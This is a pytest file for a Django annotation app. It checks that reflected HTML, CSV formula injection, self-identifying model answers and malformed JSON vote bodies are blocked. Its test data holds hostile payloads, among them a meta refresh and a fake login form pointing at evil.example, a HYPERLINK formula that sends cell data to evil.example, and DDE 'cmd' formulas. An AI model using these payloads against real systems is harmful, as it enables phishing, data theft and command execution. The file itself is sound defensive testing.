"""Findings 4, 5, 6 and 8 of the attacker's probe (issue 10) that need a study with votes.

The others are in tests/test_security_findings.py.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.test import Client

from annotation.identity import MASK
from annotation.models import Study, Vote
from annotation.reports import FORMULA_STARTS, csv_cell
from generation.models import LanguageModel, Question
from tests.conftest import logged_in

pytestmark = pytest.mark.django_db

META_REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
FAKE_PAGE = "<h1>Session expired</h1><form action=https://evil.example/>"
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a spreadsheet reads it as a number, not a formula
FORMULAS = {
    "comment": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "model": "=cmd|' /C calc'!A0",
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
    "question": "+1+1",
}


def _vote(client: Client, study: Study, **body) -> None:
    pair = client.get(f"/api/studies/{study.pk}/next/").json()
    response = client.post(
        f"/api/assignments/{pair['token']}/vote/", body, content_type="application/json"
    )
    assert response.status_code in (200, 201), response.content


# --- 4. reflected markup on staff pages ---------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/studies/{id}/results/?method={payload}",
        "/studies/{id}/results/?resample={payload}",
        "/studies/{id}/results/strength.svg?resample={payload}",
        "/studies/{id}/results/strength.png?method={payload}",
    ],
)
def test_a_bad_option_is_answered_as_text_with_the_valid_choices(
    make_study, admin_user, annotator, url
):
    study = make_study(models=2, questions=2, k=1)
    _vote(logged_in(annotator), study, choice="left")
    for payload in (META_REFRESH, FAKE_PAGE):
        response = logged_in(admin_user).get(url.format(id=study.pk, payload=payload))
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/plain")
        assert response["X-Content-Type-Options"] == "nosniff"
        body = response.content.decode()
        assert "use one of:" in body
        assert ("bradley_terry" in body) or ("question" in body)


# --- 5. spreadsheet formulas in CSV exports -------------------------------------------------------


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_export_carries_a_cell_a_spreadsheet_would_run(make_study, admin_user, annotator):
    study = make_study(models=2, questions=1, k=1)
    model = study.built.models[0]
    LanguageModel.objects.filter(pk=model.pk).update(name=FORMULAS["model"])
    Question.objects.filter(prompt_set=study.prompt_set).update(
        category=FORMULAS["category"], text=FORMULAS["question"]
    )
    _vote(logged_in(annotator), study, choice="right", comment=FORMULAS["comment"])
    staff = logged_in(admin_user)
    exports = {}
    for fmt in ("csv", "strengths", "votes"):
        for url in (
            f"/api/studies/{study.pk}/export/{fmt}/",
            f"/studies/{study.pk}/results/download/{fmt}/",
        ):
            response = staff.get(url)
            assert response.status_code == 200, url
            exports[url] = response.content.decode()
    for url, text in exports.items():
        cells = _cells(text)
        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
        assert not dangerous, (url, dangerous)
    votes = _cells(exports[f"/api/studies/{study.pk}/export/votes/"])
    # Each value is still there, only made inert; negative numbers stay numbers.
    for value in FORMULAS.values():
        assert "'" + value in votes
    strengths = _cells(exports[f"/api/studies/{study.pk}/export/strengths/"])
    assert any(NUMBER.fullmatch(c) and c.startswith("-") for c in strengths)


def test_the_csv_rule_neutralises_each_formula_start_and_keeps_numbers():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(-12.5) == "-12.5000"
    assert csv_cell(3) == 3
    assert csv_cell("普通の回答") == "普通の回答"
    assert csv_cell(None) == ""


# --- 6. self-identifying answers and the annotator ------------------------------------------------


def _self_naming(model_index: int, position: int) -> str:
    if model_index == 0:
        return "私はacme-chatです。Acme社によって開発されたAIです。\n早く寝ましょう。"
    return f"普通の回答{model_index}-{position}。"


def test_an_opened_study_never_shows_a_self_identifying_answer(
    make_study, annotator, django_user_model
):
    study = make_study(models=2, questions=3, k=1, answers=_self_naming)
    LanguageModel.objects.filter(pk=study.built.models[0].pk).update(name="acme-chat")
    # Flags are found when the study opens; re-open to scan with the renamed model.
    study.status = Study.Status.CLOSED
    study.save(update_fields=["status"])
    from annotation import studies

    studies.study_open(study=study)
    client = logged_in(annotator)
    seen = []
    while (response := client.get(f"/api/studies/{study.pk}/next/")).status_code == 200:
        pair = response.json()
        seen.append(pair["left"] + pair["right"])
        _vote(client, study, choice="tie")
    page = client.get(f"/annotate/{study.pk}/").content.decode()
    assert len(seen) == 3
    for text in [*seen, page]:
        assert "acme-chat" not in text and "によって開発された" not in text
    assert sum(MASK in text for text in seen) == 3


# --- 8. a hostile vote body -----------------------------------------------------------------------


def test_deep_nesting_or_a_lone_surrogate_in_a_vote_is_a_400_and_stores_nothing(
    make_study, annotator
):
    study = make_study(models=2, questions=1, k=1)
    client = logged_in(annotator)
    token = client.get(f"/api/studies/{study.pk}/next/").json()["token"]
    url = f"/api/assignments/{token}/vote/"
    deep = '{"choice": "left", "comment": ' + "[" * 100_000 + "]" * 100_000 + "}"
    surrogate = '{"choice": "left", "comment": "\\ud800"}'
    for body in (deep, surrogate):
        response = client.post(url, body, content_type="application/json")
        assert response.status_code == 400
        assert "detail" in response.json()
    assert not Vote.objects.exists()
    response = client.post(url, json.dumps({"choice": "left"}), content_type="application/json")
    assert response.status_code in (200, 201)
